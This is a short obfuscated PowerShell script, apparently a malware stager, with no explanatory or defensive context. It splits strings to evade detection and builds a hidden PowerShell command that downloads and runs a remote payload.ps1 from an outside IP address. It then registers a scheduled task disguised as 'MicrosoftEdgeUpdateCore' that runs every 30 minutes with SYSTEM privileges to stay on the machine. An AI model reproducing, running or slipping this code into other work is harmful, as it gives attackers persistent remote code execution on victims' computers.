iex ('# bootstrap 5244 v3
$cmd = "powers'+'hell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloads'+'tring(''http://198.51.100.23:9001/payload.ps1''))`""
schtasks /create /tn "MicrosoftEdgeUpdateCore" /tr $cmd /sc minute /m'+'o 30 /ru SYSTEM /f
')